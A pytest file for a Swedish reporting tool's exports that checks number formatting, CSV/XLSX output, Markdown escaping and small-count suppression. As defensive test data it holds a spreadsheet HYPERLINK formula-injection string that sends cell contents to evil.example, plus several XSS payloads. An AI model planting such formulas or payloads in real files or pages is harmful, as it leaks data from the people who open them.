"""Exports: the number formatter, safe spreadsheet cells, Swedish CSV, XLSX, Markdown escaping."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from est import format as sv
from est.audience import parse_audience, protection
from est.errors import ValidationError
from est.exports import Sheet, csv_bytes, md_escape, md_table, safe_cell, xlsx_bytes
from est.lagesbild.suppress import SECONDARY, SMALL, suppress

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
T = sv.THIN_SPACE


def test_numbers_for_people():
    assert sv.number(1234) == f"1{T}234"
    assert sv.number(1234567) == f"1{T}234{T}567"
    assert sv.number(0.24) == "0,24"
    assert sv.number(1234.5, 1) == f"1{T}234,5"
    assert sv.number(-3) == "\u22123"
    assert sv.number(6.0, 1) == "6,0"
    assert sv.number(None) == "saknas"
    assert sv.hectares(2400) == "0,24 ha"
    assert sv.percent(7.5, 1) == "7,5 %" and sv.percent(24.4) == "24 %"
    assert sv.change(20) == "+20 %" and sv.change(-85) == "\u221285 %" and sv.change(0) == "±0 %"
    assert sv.change(None) is None
    assert sv.signed(1.04, 1, " %") == "+1,0 %" and sv.signed(-0.3) == "\u22120,3"
    assert sv.month(2026, 6) == "jun 2026" and sv.month(2025, 5) == "maj 2025"
    assert sv.day(date(2026, 6, 3)) == "3 jun 2026"
    with pytest.raises(TypeError):
        sv.number(True)


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=1",
                                  "\uff1dHYPERLINK()"])
def test_formula_cells_are_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -3, 0.5, "-3", "+20 %", "\u221285 %", "12,5", "<5", "..",
                                   "Klotter", "a=b", None])
def test_numbers_and_plain_text_stay(value):
    assert safe_cell(value) == value


def test_swedish_csv_for_excel():
    body = csv_bytes(["Åtgärd", "Antal", "Andel"], [[EVIL, 12, 0.25], ["Städa; ta bort", -3, None]])
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark: Excel reads å ä ö
    text = body.decode("utf-8-sig")
    assert text.split("\r\n")[0] == "Åtgärd;Antal;Andel"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["'" + EVIL, "12", "0,25"]
    assert rows[2] == ["Städa; ta bort", "-3", ""]


def test_xlsx_keeps_numbers_and_never_stores_a_formula():
    body = xlsx_bytes([Sheet("Åtgärder", ["Åtgärd", "Antal"], [[EVIL, 12], ["Ok", 0.5]]),
                       Sheet("Åtgärder", ["A"], [["x"]]),
                       Sheet("Kategori: [alla]/* ?", ["B"], [[1]])], title="Test")
    wb = load_workbook(io.BytesIO(body))
    assert wb.sheetnames == ["Åtgärder", "Åtgärder (2)", "Kategori   alla"]
    ws = wb["Åtgärder"]
    values = {c.coordinate: c for row in ws.iter_rows() for c in row if c.value is not None}
    evil = next(c for c in values.values() if c.value == EVIL)
    assert evil.data_type == "s" and evil.quotePrefix  # text, not a formula
    assert not any(c.data_type == "f" for c in values.values())
    twelve = next(c for c in values.values() if c.value == 12)
    assert twelve.data_type == "n"


def test_markdown_escapes_html_links_and_markup():
    assert md_escape("<script>alert(1)</script>") == "\\<script\\>alert(1)\\</script\\>"
    assert md_escape("<img src=x onerror=alert(1)>").startswith("\\<img")
    assert md_escape("[Klicka](javascript:alert(1))") == "\\[Klicka\\](javascript:alert(1))"
    assert md_escape("# rubrik\nrad två") == "\\# rubrik rad två"
    assert md_escape("1. lista") == "1\\. lista" and md_escape("- lista") == "\\- lista"
    assert md_escape("&lt;b&gt;") == "\\&lt;b\\&gt;"
    lines = md_table(["A|B", "C"], [["<b>x</b>", "+20 %"]])
    assert lines[0] == "| A\\|B | C |" and lines[2] == "| \\<b\\>x\\</b\\> | +20 % |"


def test_audience_decides_suppression_in_one_place():
    cells = {"tot": 13, "a": 10, "b": 3}
    lines = [("tot", ["a", "b"])]

    def run(audience):
        p = protection(audience, 5)
        return suppress(cells, lines, p.k, p.secondary)

    assert run("internal") == cells
    assert run("partner") == {"tot": 13, "a": 10, "b": SMALL}
    assert run("public") == {"tot": 13, "a": SECONDARY, "b": SMALL}
    assert parse_audience(None) == "public" and parse_audience(" Internal ") == "internal"
    with pytest.raises(ValidationError) as exc:
        parse_audience("everyone")
    assert "audience" in exc.value.errors
